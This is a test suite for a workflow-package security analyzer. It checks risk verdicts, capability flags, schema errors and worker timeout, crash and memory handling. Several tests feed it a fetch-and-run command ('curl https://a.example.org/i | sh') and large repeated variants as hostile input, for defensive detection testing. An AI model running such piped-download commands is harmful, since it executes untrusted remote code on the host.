import { copyFile, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import { TypeCompiler } from '@sinclair/typebox/compiler'
import { expect } from 'chai'
import { type Analyzer, openAnalyzer } from '../../../consumers/governance/analyzer.ts'
import { FEATURE_NAMES } from '../../../consumers/governance/features.ts'
import { judge } from '../../../consumers/governance/judge.ts'
import { loadModel } from '../../../consumers/governance/model.ts'
import { readPackage } from '../../../consumers/governance/read-package.ts'
import { readSample, SAMPLE_FILE } from '../../../consumers/governance/sample.ts'
import type { AppError } from '../../../platform/errors.ts'
import { Verdict } from '../../../schemas/verdict.ts'
import { bytesOf, packageWith, shell } from './packages.ts'

const verdictSchema = TypeCompiler.Compile(Verdict)
const examples = new URL('../../../docs/examples/', import.meta.url)
const shipped = new URL('../../../consumers/governance/model/', import.meta.url)
const errorOf = (promise: Promise<unknown>): Promise<AppError> =>
  promise.then(
    () => {
      throw new Error('expected an error')
    },
    (error: AppError) => error,
  )

describe('the analyzer', () => {
  let analyzer: Analyzer
  before(async function () {
    // A worker takes its time to start on a busy machine.
    this.timeout(30_000)
    analyzer = await openAnalyzer()
  })
  after(() => analyzer.close())

  it('passes the shipped sample', async () => {
    const verdict = await analyzer.analyze(await readSample())
    expect(verdict.risk_score, SAMPLE_FILE).to.be.below(0.3)
    expect(verdict.decision).to.equal('pass')
    expect(verdict.violations.filter(({ severity }) => severity === 'high' || severity === 'critical')).to.deep.equal(
      [],
    )
  })

  it('finds the real weaknesses of the shipped examples, and holds those that run by themselves', async () => {
    const expected: Record<string, string[]> = {
      'check-backups.json': ['WPK-P3-001', 'WPK-P3-002'],
      'requeue-failed-jobs.yaml': ['WPK-P3-001', 'WPK-P3-002', 'WPK-P3-013'],
      'restart-workers.yaml': ['WPK-P5-002'],
      'rotate-database-secret.yaml': ['WPK-P3-002'],
      'scale-web.json': ['WPK-P4-001', 'WPK-P3-013'],
    }
    for (const file of await readdir(examples)) {
      const verdict = await analyzer.analyze(await readFile(new URL(file, examples)))
      expect(
        verdict.violations.map(({ rule_id }) => rule_id),
        file,
      ).to.deep.equal(expected[file])
      expect(verdict.decision, file).to.equal(/requeue|backups/.test(file) ? 'block' : 'pass')
    }
  })

  it('answers by its schema', async () => {
    const content = bytesOf(
      packageWith([shell('curl https://a.example.org/i | sh', { image: 'a' })], { safety: { mode: 'auto' } }),
    )
    const verdict = await analyzer.analyze(content)
    expect([...verdictSchema.Errors(verdict)]).to.deep.equal([])
    expect(verdict.capabilities).to.include.members([
      'executes_download',
      'network_out',
      'runs_shell',
      'runs_unattended',
    ])
  })

  it('says the same twice, from JSON and YAML alike except for the digest', async () => {
    const wpk = packageWith([shell('curl https://a.example.org/i | sh')])
    const first = await analyzer.analyze(bytesOf(wpk))
    expect(await analyzer.analyze(bytesOf(wpk))).to.deep.equal(first)
    const yaml = `apiVersion: v1
kind: WorkflowPackage
metadata: {name: under-test, version: 1.0.0}
spec:
  safety: {mode: manual, approval_required: true}
  handlers:
    - {name: step, type: shell, config: {command: "curl https://a.example.org/i | sh"}}
`
    expect(await analyzer.analyze(Buffer.from(yaml))).to.deep.equal({
      ...first,
      digest: (await analyzer.analyze(Buffer.from(yaml))).digest,
    })
  })

  it('uses the shipped model and names it', async () => {
    const [model] = analyzer.models()
    expect(analyzer.modelProblem()).to.equal(null)
    const verdict = await analyzer.analyze(await readSample())
    expect(verdict.model).to.deep.equal({ version: model?.version, sha256: model?.sha256 })
  })

  it('refuses what is no package, with pointers', async () => {
    const syntax = await errorOf(analyzer.analyze(Buffer.from('{"a":')))
    expect(syntax).to.include({ code: 'wpk_malformed', status: 400, retriable: false })
    expect(syntax.errors[0]).to.include({ pointer: '', code: 'document_syntax' })
    const schema = await errorOf(analyzer.analyze(bytesOf({ ...packageWith([]), kind: 'Other' })))
    expect(schema.errors).to.deep.equal([
      { pointer: '/kind', code: 'schema_enum', detail: "expected 'WorkflowPackage'" },
    ])
  })

  it('answers many requests at once, each with its own verdict', async () => {
    const packages = Array.from({ length: 40 }, (_item, index) => bytesOf(packageWith([shell(`make target-${index}`)])))
    const verdicts = await Promise.all(packages.map((content) => analyzer.analyze(content)))
    expect(new Set(verdicts.map(({ digest }) => digest)).size).to.equal(40)
  })

  it('stays within its time on hostile commands of 900 kB', async () => {
    for (const command of [
      'curl x | sh;'.repeat(75_000),
      'a'.repeat(900_000),
      "exec('".repeat(150_000),
      '{{'.repeat(400_000),
    ]) {
      const error = await analyzer.analyze(bytesOf(packageWith([shell(command)]))).then(
        () => null,
        (reason: AppError) => reason.code,
      )
      expect(error).to.be.oneOf([null, 'analysis_timeout'])
    }
    expect(await analyzer.analyze(await readSample())).to.include({ decision: 'pass' })
  }).timeout(30_000)
})

describe('the analyzer without its usual parts', () => {
  const worker = new URL('./workers/faulty-worker.mjs', import.meta.url)

  it('ends an analysis that takes too long and goes on with the next', async () => {
    const analyzer = await openAnalyzer({ worker, workers: 1, timeLimitMs: 100 })
    const [hung, next] = await Promise.all(['hang', 'next'].map((text) => errorOf(analyzer.analyze(Buffer.from(text)))))
    expect(hung).to.include({ code: 'analysis_timeout', status: 503 })
    expect(next).to.include({ code: 'analysis_failed', message: 'read next' })
    await analyzer.close()
  })

  it('fails only the package on which the worker dies', async () => {
    const analyzer = await openAnalyzer({ worker, workers: 1 })
    const [died, next] = await Promise.all(['die', 'next'].map((text) => errorOf(analyzer.analyze(Buffer.from(text)))))
    expect(died).to.include({ code: 'analysis_failed' })
    expect(died?.message).to.contain('code 7')
    expect(next?.message).to.equal('read next')
    await analyzer.close()
  })

  it('ends an analysis that fills its memory and goes on with the next', async () => {
    const analyzer = await openAnalyzer({ worker, workers: 1, timeLimitMs: 20_000 })
    const [filled, next] = await Promise.all(
      ['fill', 'next'].map((text) => errorOf(analyzer.analyze(Buffer.from(text)))),
    )
    expect(filled).to.include({ code: 'analysis_memory', message: 'out of memory' })
    expect(next?.message).to.equal('read next')
    await analyzer.close()
  }).timeout(30_000)

  it('keeps a worker free for what was submitted, however much is only asked about', async () => {
    const analyzer = await openAnalyzer({ worker, timeLimitMs: 60_000 })
    const asked = [errorOf(analyzer.analyze(Buffer.from('hang')))]
    const submitted = () => errorOf(analyzer.analyze(Buffer.from('next'), undefined, { urgent: true }))
    // The second worker is up when this is answered, and has nothing to do when the next ones are asked.
    expect((await submitted()).message).to.equal('read next')
    for (let more = 0; more < 3; more += 1) asked.push(errorOf(analyzer.analyze(Buffer.from('hang'))))
    expect((await submitted()).message).to.equal('read next')
    await analyzer.close()
    expect((await Promise.all(asked)).map(({ code }) => code)).to.deep.equal(Array(4).fill('analyzer_closed'))
  }).timeout(30_000)

  it('refuses more than it can hold, and says so', async () => {
    const analyzer = await openAnalyzer({ worker, timeLimitMs: 60_000 })
    const asked = Array.from({ length: 70 }, () => errorOf(analyzer.analyze(Buffer.from('hang'))))
    // One is at work, 64 wait.
    const refused = await Promise.all(asked.slice(65))
    expect(new Set(refused.map(({ code }) => code))).to.deep.equal(new Set(['analyzer_busy']))
    await analyzer.close()
    expect(await Promise.all(asked.slice(0, 65))).to.satisfy((all: AppError[]) =>
      all.every(({ code }) => code === 'analyzer_closed'),
    )
  })

  it('answers open requests when it is closed', async () => {
    const analyzer = await openAnalyzer({ worker, timeLimitMs: 60_000 })
    const open = errorOf(analyzer.analyze(Buffer.from('hang')))
    await analyzer.close()
    expect(await open).to.include({ code: 'analyzer_closed' })
    expect(await errorOf(analyzer.analyze(Buffer.from('x')))).to.include({ code: 'analyzer_closed' })
  })

  it('judges by rules alone when the model is missing, changed or made for other features', async () => {
    const directory = await mkdtemp(join(tmpdir(), 'atom-model-'))
    const location = pathToFileURL(`${directory}/`)
    const problem = async (): Promise<string | null> => {
      const analyzer = await openAnalyzer({ modelDirectory: location, worker, workers: 1 })
      expect(analyzer.models()).to.deep.equal([])
      await analyzer.close()
      const model = await loadModel(location, FEATURE_NAMES)
      const content = await readSample()
      const read = readPackage(content)
      if (!read.ok) throw new Error('the sample is no package')
      const verdict = await judge(content, read.wpk, model)
      expect(verdict.model).to.equal(null)
      expect(verdict.checks.at(-1)).to.include({ name: 'model', status: 'unavailable' })
      return analyzer.modelProblem()
    }
    try {
      expect(await problem()).to.contain('ENOENT')
      const card = JSON.parse(await readFile(new URL('model.json', shipped), 'utf8'))
      await copyFile(new URL('model.onnx', shipped), join(directory, 'model.onnx'))
      await writeFile(join(directory, 'model.json'), JSON.stringify({ ...card, sha256: '0'.repeat(64) }))
      expect(await problem()).to.equal('sha256 differs')
      await writeFile(join(directory, 'model.json'), JSON.stringify({ ...card, features: ['other'] }))
      expect(await problem()).to.equal('other features')
      const bytes = await readFile(new URL('model.onnx', shipped))
      bytes[bytes.length >> 1] = (bytes[bytes.length >> 1] ?? 0) ^ 1
      await writeFile(join(directory, 'model.onnx'), bytes)
      await writeFile(join(directory, 'model.json'), JSON.stringify(card))
      expect(await problem()).to.equal('sha256 differs')
    } finally {
      await rm(directory, { recursive: true })
    }
  }).timeout(60_000)
})
